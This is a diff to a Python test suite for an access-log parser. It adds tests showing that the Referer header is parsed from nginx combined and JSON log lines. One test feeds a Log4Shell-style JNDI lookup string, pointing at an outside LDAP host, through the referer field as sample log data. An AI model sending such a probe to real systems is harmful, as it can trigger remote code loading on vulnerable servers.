@@ -53,6 +53,7 @@ def test_combined_line_fields() -> None:
         47,
         "alice",
         "curl/8.5.0",
+        referer="https://example.com/",
     )
 
 
@@ -224,6 +225,23 @@ def test_json_line_fields() -> None:
         None,
         None,
     )
+
+
+def test_referer_is_carried_by_both_access_formats() -> None:
+    """The Referer header is on the event from the combined and the JSON format; a
+    logged "-" or empty one is None."""
+    assert _one("nginx", LINE).referer == "https://example.com/"
+    unset = LINE.replace('"https://example.com/"', '"-"')
+    assert _one("nginx", unset).referer is None
+    assert _one("nginx", unset.replace('"-"', '""')).referer is None
+    assert (
+        _one("nginx", '203.0.113.7 - - [20/Jan/2015:19:53:28 +0100] "GET / HTTP/1.1" 200 5').referer
+        is None
+    )
+    probe = "${jndi:ldap://198.51.100.7/a}"
+    assert _one("nginx-json", _json_line(http_referer=probe)).referer == probe
+    assert _one("nginx-json", _json_line(http_referer="-")).referer is None
+    assert _one("nginx-json", _json_line()).referer is None
 
 
 @pytest.mark.parametrize(
